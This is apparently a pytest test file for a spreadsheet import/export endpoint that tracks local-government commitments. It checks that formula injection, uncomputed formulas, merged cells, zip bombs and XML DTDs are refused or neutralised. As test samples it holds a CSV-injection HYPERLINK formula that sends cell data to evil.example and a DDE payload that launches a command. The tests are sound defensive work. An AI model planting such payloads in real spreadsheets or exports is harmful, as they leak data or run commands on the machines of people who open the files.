"""Hostile spreadsheets in and out of the commitment follow-up: text that a spreadsheet would
run as a formula never comes back out live, and is refused on the way in; zip bombs and XML
declarations are refused in seconds, before anything is parsed."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from tests.dialogue.conftest import (
    TIEN_LANG,
    FakeToday,
    held_session,
    ok,
    take_office,
    written_by_commands,
)
from tests.xlsxfiles import (
    Formula,
    bomb_sheet,
    dtd_in_content_types,
    dtd_sheet,
    formula_sheet,
    many_cells_sheet,
    plain_sheet,
    wide_row_sheet,
    workbook,
)

URL = "/api/v1/commitments/progress-import"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def _commitments(client: TestClient, items: list[tuple[str, str]]) -> list[str]:
    head = take_office(client, TIEN_LANG, "party_secretary", "Nguyễn Văn An", "2020-10-01")
    session_id = held_session(client, TIEN_LANG, [head], "2023-03-15")
    return [
        ok(client.post(f"/api/v1/sessions/{session_id}/commitments", json={
            "text": text, "responsible_agency": agency, "due_on": "2023-09-30"}),
           201)["commitment_id"]
        for text, agency in items
    ]


def _upload(client: TestClient, name: str, content: bytes, **params: Any) -> Any:
    return client.post(URL, params=params, files={"file": (name, content)})


def test_the_template_writes_formula_text_as_quoted_strings_and_numbers_as_numbers(
    client: TestClient, clock: FakeToday
) -> None:
    clock.set(date(2023, 6, 15))
    ids = _commitments(client, [(HYPERLINK, "=1+2"), (DDE, "@SUM(1+1)"),
                                ("Nạo vét kênh Đông", "-5")])
    ok(client.post(f"/api/v1/commitments/{ids[2]}/progress",
                   json={"progress_pct": 40, "updated_on": "2023-06-01"}))

    xlsx = client.get(f"{URL}/template", params={"unit_code": TIEN_LANG})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert (rows[ids[0]][1].value, rows[ids[0]][2].value) == ("'" + HYPERLINK, "'=1+2")
    assert (rows[ids[1]][1].value, rows[ids[1]][2].value) == ("'" + DDE, "'@SUM(1+1)")
    assert {rows[i][1].data_type for i in ids} == {"s"}
    # A figure is a number cell; text that is a plain number is left as written.
    assert (rows[ids[2]][5].data_type, rows[ids[2]][5].value) == ("n", 40)
    assert (rows[ids[2]][2].data_type, rows[ids[2]][2].value) == ("s", "-5")

    text = client.get(f"{URL}/template", params={"format": "csv"}).content.decode("utf-8-sig")
    lines = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
    assert lines[ids[0]][1:3] == ["'" + HYPERLINK, "'=1+2"]
    assert lines[ids[1]][1:3] == ["'" + DDE, "'@SUM(1+1)"]
    assert lines[ids[2]][2] == "-5" and lines[ids[2]][5] == "40"
    assert not any(cell.startswith(("=", "+", "@")) for row in lines.values() for cell in row)

    # The quoted template still comes back through the import: its text columns are read only.
    filled = load_workbook(io.BytesIO(xlsx.content))
    for row in filled.worksheets[0].iter_rows(min_row=2):
        row[5].value = 50
    buffer = io.BytesIO()
    filled.save(buffer)
    assert ok(_upload(client, "mau.xlsx", buffer.getvalue()))["accepted_rows"] == 3


def test_an_imported_note_a_spreadsheet_would_run_is_refused_row_by_row(
    client: TestClient, clock: FakeToday
) -> None:
    clock.set(date(2023, 6, 15))
    ids = _commitments(client, [("Chi trả tiền bồi thường", "Ban Quản lý dự án huyện")] * 6)
    notes = [HYPERLINK, DDE, "@SUM(1+1)", "=1+2", "\t=1+2", "\r+1+2"]
    content = "\r\n".join(
        ["Mã cam kết,Tiến độ (%),Ghi chú"]
        + [f'{i},10,"{n.replace(chr(34), chr(34) * 2)}"' for i, n in zip(ids, notes, strict=True)]
    ).encode("utf-8")
    baseline = written_by_commands(client)

    refused = _upload(client, "tien-do.csv", content)
    assert refused.status_code == 422
    errors = refused.json()["error"]["details"]["errors"]
    assert [(e["row"], e["column"], e["code"]) for e in errors] == [
        (row, "Ghi chú", "FORMULA_TEXT") for row in range(2, 8)]
    assert "công thức" in errors[0]["message"]
    assert written_by_commands(client) == baseline

    # A note that only looks like a figure, or a lone dash, is plain data.
    plain = "Mã cam kết,Tiến độ (%),Ghi chú\r\n" + f"{ids[0]},10,-5\r\n{ids[1]},10,-\r\n"
    assert ok(_upload(client, "tien-do.csv", plain.encode()))["accepted_rows"] == 2


def test_an_excel_formula_without_a_kept_result_is_refused_in_its_column(
    client: TestClient, clock: FakeToday
) -> None:
    clock.set(date(2023, 6, 15))
    ids = _commitments(client, [("Chi trả tiền bồi thường", "Ban Quản lý dự án huyện")] * 3)
    header = ["Mã cam kết", "Tiến độ (%)", "Ngày cập nhật", "Ghi chú"]
    link = Formula('HYPERLINK("http://evil","x")')
    # Written by a program that does not compute formulas: no result in the file. The note
    # was imported as "" (lost) and the progress refused as empty (G5).
    uncomputed = workbook(formula_sheet(
        header,
        [ids[0], 60, "02/06/2023", link],
        [ids[1], Formula("50+10"), "02/06/2023", "Đã chi"],
        [ids[2], Formula("50+10"), "02/06/2023", link],
    ))
    baseline = written_by_commands(client)

    refused = _upload(client, "tien-do.xlsx", uncomputed)
    assert refused.status_code == 422, refused.text
    errors = refused.json()["error"]["details"]["errors"]
    assert [(e["row"], e["column"], e["code"]) for e in errors] == [
        (2, "Ghi chú", "FORMULA_WITHOUT_VALUE"),
        (3, "Tiến độ (%)", "FORMULA_WITHOUT_VALUE"),
        (4, "Tiến độ (%)", "FORMULA_WITHOUT_VALUE"),
        (4, "Ghi chú", "FORMULA_WITHOUT_VALUE"),
    ]
    assert "=50+10" in errors[1]["message"] and "LibreOffice" in errors[1]["message"]
    assert written_by_commands(client) == baseline

    # Saved by Excel or LibreOffice, the file keeps each result: the progress is its value.
    computed = workbook(formula_sheet(
        header, [ids[1], Formula("50+10", 60), "02/06/2023", Formula('"Đã"&" chi"', "Đã chi")]))
    applied = ok(_upload(client, "tien-do.xlsx", computed))
    assert [(r["row"], r["progress_pct"]) for r in applied["results"]] == [(2, 60)]
    update = client.get(f"/api/v1/commitments/{ids[1]}").json()["history"][-1]
    assert (update["progress_pct"], update["note"]) == (60, "Đã chi")


def test_a_cell_of_merged_cells_is_refused_naming_the_range(
    client: TestClient, clock: FakeToday
) -> None:
    """examiner-hostile: one progress merged down two commitments' rows (B2:B3) shows 60 on
    both, but the file keeps it in B2 only: row 3 was refused as left empty. Refused naming
    the cell and the range, nothing applied."""
    clock.set(date(2023, 6, 15))
    ids = _commitments(client, [("Chi trả tiền bồi thường", "Ban Quản lý dự án huyện")] * 2)
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Mã cam kết", "Tiến độ (%)", "Ngày cập nhật", "Ghi chú"])
    sheet.append([ids[0], 60, "02/06/2023", "Đã chi"])
    sheet.append([ids[1], None, "02/06/2023", None])
    sheet.merge_cells("B2:B3")
    sheet.merge_cells("D2:D3")
    buffer = io.BytesIO()
    book.save(buffer)
    baseline = written_by_commands(client)
    refused = _upload(client, "tien-do.xlsx", buffer.getvalue())
    assert refused.status_code == 422, refused.text
    errors = refused.json()["error"]["details"]["errors"]
    assert [(e["row"], e["column"], e["code"]) for e in errors] == [
        (3, "Tiến độ (%)", "MERGED_CELL"), (3, "Ghi chú", "MERGED_CELL")]
    assert all(part in errors[0]["message"] for part in ("B3", "B2:B3", "«60»")), errors[0]
    assert "«Đã chi»" in errors[1]["message"]
    assert written_by_commands(client) == baseline


# -- zip bombs and XML declarations -----------------------------------------------------------

HEADER = ["Mã cam kết", "Tiến độ (%)", "Ghi chú"]
ROW = ["khong-co-ma", "10", ""]
MiB = 1 << 20


@pytest.mark.parametrize(
    ("build", "code", "detail", "seconds"),
    [
        # 20 MiB of sheet XML in ~0.1 MB: past the 13.5 MB budget of a 5,000-row import (the
        # probe's 0.5 MB bomb held this endpoint 34 s).
        (lambda: workbook(bomb_sheet(HEADER, ROW, 20 * MiB)), "IMPORT_TOO_LARGE",
         "uncompressed_bytes", 5),
        # Within the budget, but inflating ~250-fold.
        (lambda: workbook(bomb_sheet(HEADER, ROW, 12 * MiB)), "IMPORT_TOO_LARGE", "ratio", 5),
        (lambda: workbook(wide_row_sheet(HEADER, 20_000), stored=True), "IMPORT_TOO_LARGE",
         "limit", 5),
        # Ordinary compression, within the budget: 7,000 rows of 16 cells, more cells than a
        # 5,000-row import may hold; counted in a streaming pass that builds nothing.
        (lambda: workbook(many_cells_sheet(HEADER, 7_000, 16)), "IMPORT_TOO_LARGE", "limit",
         15),
        (lambda: workbook(dtd_sheet(HEADER, ROW)), "IMPORT_UNREADABLE", None, 5),
        (lambda: dtd_in_content_types(HEADER, ROW), "IMPORT_UNREADABLE", None, 5),
    ],
    ids=["bomb-size", "bomb-ratio", "wide-row", "many-cells", "dtd-in-sheet",
         "dtd-in-content-types"],
)
def test_hostile_workbooks_are_refused_in_seconds_before_parsing(
    client: TestClient, build: Callable[[], bytes], code: str, detail: str | None,
    seconds: float,
) -> None:
    content = build()
    baseline = written_by_commands(client)
    # Processor time of this process (the app runs in it), not the wall clock: the bound is on
    # the work the refusal costs, whatever else the machine is running.
    started = time.process_time()
    response = _upload(client, "bom.xlsx", content)
    elapsed = time.process_time() - started
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == code and not error["message"].isascii()
    if detail:
        assert detail in error["details"]
    assert elapsed < seconds, f"{elapsed:.1f} s of processor time"
    assert written_by_commands(client) == baseline


def test_the_same_workbook_without_the_trick_is_read(client: TestClient) -> None:
    dry = _upload(client, "tien-do.xlsx", workbook(plain_sheet(HEADER, ROW)), dry_run="true")
    assert dry.status_code == 200, dry.text
    assert [e["code"] for e in dry.json()["errors"]] == ["COMMITMENT_NOT_FOUND"]
